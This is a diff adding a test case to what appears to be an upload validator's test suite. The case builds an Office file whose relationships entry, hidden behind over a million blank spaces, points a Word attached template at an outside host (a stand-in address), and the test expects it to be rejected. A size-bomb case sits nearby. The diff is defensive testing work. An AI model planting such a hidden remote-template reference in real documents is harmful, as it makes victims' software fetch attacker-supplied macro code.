@@ -204,6 +204,17 @@ t.test('files of tickets', async t => {
         'attachment-outside',
       ],
       [
+        'one that hides it behind a million blanks',
+        'other',
+        {
+          bytes: await officeFile({
+            'word/_rels/settings.xml.rels': `<Relationships>${' '.repeat(1_100_000)}<Relationship Id="a" Type="x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>`,
+          }),
+        },
+        422,
+        'attachment-outside',
+      ],
+      [
         'a bomb',
         'other',
         { bytes: await officeFile({ 'word/media/a.bin': '0'.repeat(30_000_000) }) },
